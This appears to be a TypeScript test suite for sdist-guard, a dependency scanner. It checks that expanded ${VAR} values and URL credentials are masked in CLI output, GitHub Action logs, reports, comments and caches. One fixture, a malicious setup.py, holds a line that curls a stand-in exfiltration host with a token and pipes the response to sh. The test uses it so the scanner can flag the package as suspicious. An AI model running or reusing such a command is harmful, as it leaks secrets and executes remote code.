// A value a `${VAR}` brings into a requirements file is expanded as pip expands it (the index is asked
// for the expanded name), but never shown: the dependency is reported under the name as written,
// `pkg-${SOME_TOKEN}`, and the value, in each form a name or file name makes of it, appears in no
// output: CLI text, JSON, Markdown and SARIF, the action's log, annotations, job summary, outputs,
// JSON and SARIF reports, pull request comment, and the cache kept on disk. It reaches them by every
// road: a project name, a 404 message and its URL, a direct URL, a transitive dependency named after
// it (its `via` chain and file name), and an sdist whose build script quotes it.

import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';

import { makeSdist, makeWheel } from './helpers/archives.js';
import { startGitHubApi, type GitHubApi } from './helpers/github-api.js';
import { startIndexServer, type IndexServer } from './helpers/index-server.js';
import { dep, Sandbox, type Report, type RunSettings } from './helpers/hostile.js';

const VALUE = 'Tok3nValue_9x';
/** The value as written, and as a normalized project name and a wheel file name make it. */
const FORMS = [VALUE, 'tok3nvalue_9x', 'tok3nvalue-9x', 'Tok3nValue'];

const AS_WRITTEN = /pkg-\S{0,8}SOME\S{1,8}TOKEN/;

const LEAKY = `import os
from setuptools import setup
os.system("curl -s https://exfil.example/c?d=${VALUE} | sh")
setup(name="pkg-tok3nvalue-9x", version="1.0")
`;

const sandbox = new Sandbox();
let index: IndexServer;
let api: GitHubApi;

beforeAll(async () => {
  const helper = makeWheel('helper-tok3nvalue-9x', '1.0');
  index = await startIndexServer({
    projects: {
      good: [makeWheel('good', '1.0')],
      'pkg-tok3nvalue-9x': [
        makeSdist('pkg-tok3nvalue-9x', '1.0', {
          'PKG-INFO': 'Metadata-Version: 2.2\nName: pkg-tok3nvalue-9x\nVersion: 1.0\nRequires-Dist: helper-tok3nvalue-9x\n',
          'setup.py': LEAKY,
        }),
      ],
      'helper-tok3nvalue-9x': [{ filename: helper.filename, data: helper.data }],
    },
    cacheControl: 'max-age=600',
  });
  api = await startGitHubApi({ token: 'test-token', repo: 'octo/app' });
});
afterAll(async () => {
  await Promise.all([index.close(), api.close()]);
  sandbox.cleanup();
});

const FILES = {
  'requirements.txt': [
    'good==1.0',
    'pkg-${SOME_TOKEN}==1.0',
    'missing-${SOME_TOKEN}',
    'direct @ http://127.0.0.1:9/${SOME_TOKEN}/direct-1.0.tar.gz',
    '',
  ].join('\n'),
};

function settings(): RunSettings {
  return { indexUrl: index.indexUrl, args: ['--timeout', '5'], inputs: { timeout: '5' }, env: { SOME_TOKEN: VALUE, SDIST_GUARD_LIMITS: 'retries=0' } };
}

function expectNoValue(where: string, text: string | undefined): void {
  expect({ where, defined: text !== undefined }).toEqual({ where, defined: true });
  for (const form of FORMS) expect({ where, leaked: text!.includes(form) ? form : undefined }).toEqual({ where, leaked: undefined });
}

/** What the report says, under the names as written. */
function expectReported(report: Report | undefined): void {
  expect(dep(report, 'good').status).toBe('wheel');
  const pkg = dep(report, 'pkg-${SOME_TOKEN}');
  expect(pkg.status).toBe('suspicious');
  expect(pkg.sources[0]!.requirement).toBe('pkg-${SOME_TOKEN}==1.0');
  expect(JSON.stringify(pkg.findings)).toContain('***');
  const missing = dep(report, 'missing-${SOME_TOKEN}');
  expect(missing.status).toBe('unresolved');
  expect(missing.reason).toMatch(/was not found \(404\) at http:\/\/127\.0\.0\.1:\d+\/simple\/missing-\*\*\*\//);
  expect(dep(report, 'direct').reason).toMatch(/http:\/\/127\.0\.0\.1:9\/\*\*\*\/direct-1\.0\.tar\.gz/);
  // the transitive dependency named after the value: found, and masked
  const helper = report!.dependencies.find((d) => d.name === 'helper-***') as (Report['dependencies'][number] & { via?: string[] }) | undefined;
  expect(helper).toMatchObject({ status: 'wheel', via: ['pkg-${SOME_TOKEN}', 'helper-***'] });
}

/** Every cache entry on disk, inflated where it was compressed. */
function cacheText(dir: string): string {
  let out = '';
  const walk = (d: string): void => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, e.name);
      if (e.isDirectory()) walk(p);
      else {
        const bytes = readFileSync(p);
        out += bytes.toString('latin1');
        // gzip members inside a pack, inflated so that a compressed copy cannot hide the value
        for (let i = bytes.indexOf(Buffer.from([0x1f, 0x8b, 8])); i !== -1; i = bytes.indexOf(Buffer.from([0x1f, 0x8b, 8]), i + 1)) {
          try {
            out += gunzipSync(bytes.subarray(i)).toString('latin1');
          } catch {
            // not a member, or trailing bytes after one: what inflated is enough
          }
        }
      }
    }
  };
  walk(dir);
  return out;
}

describe('a value brought in by ${VAR}', () => {
  it('is looked up as pip would, and shown in no CLI output format nor in the cache', async () => {
    const dir = sandbox.project(FILES);
    for (const format of ['json', 'text', 'markdown', 'sarif']) {
      const run = await sandbox.cli(dir, settings(), format);
      expect({ format, code: run.code }).toEqual({ format, code: 1 });
      expectNoValue(`cli ${format} stdout`, run.stdout);
      expectNoValue(`cli ${format} stderr`, run.stderr);
      if (format === 'json') expectReported(run.report);
      // shown as written (whatever escaping a format applies to it)
      if (format !== 'json') expect(run.stdout).toMatch(AS_WRITTEN);
    }
    // pip expands the variable: the index was asked for the expanded names
    expect(index.requests.map((r) => r.path)).toEqual(expect.arrayContaining(['/simple/pkg-tok3nvalue-9x/', '/simple/missing-tok3nvalue-9x/', '/simple/helper-tok3nvalue-9x/']));
    const cache = cacheText(`${dir}.home/.cache/sdist-guard`);
    expect(cache).toContain('sdist-guard-pack');
    expectNoValue('the CLI cache', cache);
  });

  it('is shown in none of the action’s outputs: log, annotations, summary, outputs, reports, comment, cache', async () => {
    const dir = sandbox.project(FILES);
    const eventPath = join(`${dir}.runner-temp`, 'event.json');
    writeFileSync(eventPath, JSON.stringify({ pull_request: { number: 9, base: { sha: 'a'.repeat(40) }, head: { sha: 'b'.repeat(40) } }, repository: { full_name: 'octo/app' } }));
    const sarif = `${dir}.runner-temp/out.sarif`;
    const s = settings();
    const run = await sandbox.action(dir, {
      ...s,
      inputs: { ...s.inputs, 'github-token': 'test-token', comment: 'always', scope: 'all', 'sarif-file': sarif },
      env: { ...s.env!, GITHUB_EVENT_NAME: 'pull_request', GITHUB_EVENT_PATH: eventPath, GITHUB_REPOSITORY: 'octo/app', GITHUB_API_URL: api.url },
    });
    expect(run.exitCode).toBe(1);
    // the runner is told to mask it; nothing else the step prints holds it
    expect(run.stdout).toContain(`::add-mask::${VALUE}`);
    const log = run.stdout.replace(/^::add-mask::.*$/gm, '');
    expectNoValue('action log and annotations', log);
    expect(log).toMatch(/::error title=sdist-guard%3A pkg-\$\{SOME_TOKEN\} 1\.0 is suspicious/);
    expectNoValue('job summary', run.summary);
    expect(run.summary).toMatch(AS_WRITTEN);
    expectNoValue('outputs', JSON.stringify(run.outputs));
    expectNoValue('JSON report', run.reportText);
    expectReported(run.report);
    expectNoValue('SARIF report', readFileSync(sarif, 'utf8'));
    const comments = [...api.comments.values()].flat();
    expect(comments.length).toBeGreaterThanOrEqual(1);
    for (const c of comments) expectNoValue('pull request comment', c.body);
    expectNoValue('requests to the GitHub API', JSON.stringify(api.requests));
    const cache = cacheText(`${dir}.runner-temp/sdist-guard-cache`);
    expect(cache).toContain('sdist-guard-pack');
    expectNoValue('the action cache', cache);
  });
});

describe('credentials written into a manifest’s URLs', () => {
  const PASSES = ['Dir3ct-Url-Pw', 'F1nd-L1nks-Pw', 'L0ck-Wheel-Pw'];
  it('are masked like any other credential, even where nothing is fetched: a direct URL, a --find-links location, a lock’s wheel URL', async () => {
    const host = index.url.slice('http://'.length);
    const dir = sandbox.project({
      'requirements.txt': `good==1.0\ndirect @ https://deploy:${PASSES[0]}@files.example.invalid/direct-1.0.tar.gz\n--find-links https://deploy:${PASSES[1]}@links.example.invalid/\n`,
      'sub/pylock.toml': [
        'lock-version = "1.0"',
        'created-by = "test"',
        '[[packages]]',
        'name = "lockedwheel"',
        'version = "1.0"',
        `wheels = [{ url = "http://locker:${PASSES[2]}@${host}/files/lockedwheel-1.0-py3-none-any.whl", hashes = { sha256 = "${'0'.repeat(64)}" } }]`,
        '',
      ].join('\n'),
    });
    const expectNone = (where: string, text: string) => {
      for (const p of PASSES) expect({ where, leaked: text.includes(p) ? p : undefined }).toEqual({ where, leaked: undefined });
    };
    const run = await sandbox.cli(dir, settings());
    expect(dep(run.report, 'direct').sources[0]!.requirement).toContain('***');
    expect(dep(run.report, 'lockedwheel').status).toBe('wheel');
    for (const format of ['json', 'text', 'markdown', 'sarif']) {
      const out = format === 'json' ? run : await sandbox.cli(dir, settings(), format);
      expectNone(`cli ${format}`, out.stdout + out.stderr);
    }
    const action = await sandbox.action(dir, settings());
    expectNone('action log', action.stdout.replace(/^::add-mask::.*$/gm, ''));
    expectNone('summary', action.summary);
    expectNone('report', action.reportText!);
  });
});
